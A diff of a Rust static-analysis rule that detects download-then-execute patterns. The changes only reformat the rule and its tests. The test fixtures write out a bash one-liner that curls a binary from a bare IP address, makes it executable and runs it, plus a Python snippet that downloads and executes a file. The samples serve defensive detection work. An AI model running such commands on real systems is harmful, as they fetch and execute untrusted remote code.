@@ -21,7 +21,9 @@ impl Rule for DownloadThenExecute {
     fn check(&self, cx: &Context<'_>, out: &mut Vec<Finding>) {
         for (_, source) in cx.sources() {
             for flow in &source.flows {
-                let (Origination::Net(from), Destination::Exec(program)) = (&flow.from.what, &flow.to.what) else {
+                let (Origination::Net(from), Destination::Exec(program)) =
+                    (&flow.from.what, &flow.to.what)
+                else {
                     continue;
                 };
                 // Not data that a program works on: the program itself came from there.
@@ -37,10 +39,17 @@ impl Rule for DownloadThenExecute {
                     Peer::Named(_) | Peer::Home | Peer::Unknown => (META.severity, META.confidence),
                 };
                 let message = format!("fetches {program} from {} and runs it", peer.shown());
-                let finding =
-                    Finding::new(&META, message).severity(severity).confidence(code::confidence(cx, source, most));
+                let finding = Finding::new(&META, message)
+                    .severity(severity)
+                    .confidence(code::confidence(cx, source, most));
                 let steps = code::steps(flow, "it is fetched here");
-                out.push(code::located(cx, source, finding, (flow.to.span, "it runs here"), steps));
+                out.push(code::located(
+                    cx,
+                    source,
+                    finding,
+                    (flow.to.span, "it runs here"),
+                    steps,
+                ));
             }
         }
     }
@@ -53,18 +62,27 @@ mod tests {
 
     #[test]
     fn a_program_from_a_bare_address_is_critical() {
-        let found = finds(&DownloadThenExecute, "```bash\ncurl -o /tmp/t http://198.51.100.7/t && chmod +x /tmp/t && /tmp/t\n```\n");
+        let found = finds(
+            &DownloadThenExecute,
+            "```bash\ncurl -o /tmp/t http://198.51.100.7/t && chmod +x /tmp/t && /tmp/t\n```\n",
+        );
         assert_eq!(found.severity, Severity::Critical);
     }
 
     #[test]
     fn the_file_joins_the_two_halves_in_python() {
         let code = "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.example.net/t', '/tmp/t')\nsubprocess.run(['/tmp/t'])";
-        assert_eq!(findings(&DownloadThenExecute, &[("a.py", code)])[0].severity, Severity::Medium);
+        assert_eq!(
+            findings(&DownloadThenExecute, &[("a.py", code)])[0].severity,
+            Severity::Medium
+        );
     }
 
     #[test]
     fn data_that_is_worked_on_passes() {
-        passes(&DownloadThenExecute, "```bash\ncurl -o data.json https://api.example.com/x\njq .a data.json\n```\n");
+        passes(
+            &DownloadThenExecute,
+            "```bash\ncurl -o data.json https://api.example.com/x\njq .a data.json\n```\n",
+        );
     }
 }
